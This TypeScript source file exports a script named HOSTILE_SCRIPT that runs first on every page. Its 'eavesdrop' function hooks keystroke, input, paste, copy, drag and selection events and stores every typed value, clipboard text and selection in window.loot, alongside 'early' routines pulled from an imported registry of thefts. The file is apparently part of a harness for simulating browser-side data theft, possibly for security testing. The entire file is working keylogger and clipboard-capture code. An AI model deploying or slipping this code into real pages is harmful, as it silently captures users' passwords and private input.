import { THEFTS, type Theft } from './thefts.ts';

/** Hears everything that is typed, pasted, copied or dragged, before anybody else in the page. */
const eavesdrop = (): void => {
  const heard: string[] = [];
  window.loot.typed = heard;
  const types = ['keydown', 'keypress', 'keyup', 'beforeinput', 'input', 'change', 'compositionupdate'];
  types.push('copy', 'cut', 'paste', 'dragstart', 'selectionchange', 'select', 'search');
  for (const type of types)
    for (const target of [window, document])
      target.addEventListener(
        type,
        (event) => {
          const { key, data, clipboardData, dataTransfer } = event as KeyboardEvent &
            InputEvent &
            ClipboardEvent;
          const values = event.composedPath().map((node) => (node as HTMLInputElement).value ?? '');
          const pasted = [clipboardData, dataTransfer].map((carried) => carried?.getData('text') ?? '');
          heard[heard.length] = [type, key, data, ...pasted, ...values, String(getSelection())].join(' ');
        },
        { capture: true },
      );
};

const early = Object.values(THEFTS).flatMap((theft: Theft) => theft.early ?? []);

/** The script that runs first on every page: it patches, defines, observes and listens. What it overhears is in `window.loot`. */
export const HOSTILE_SCRIPT = [
  'window.loot = {};',
  ...[...early, eavesdrop].map((run) => `(${run})();`),
].join('\n');
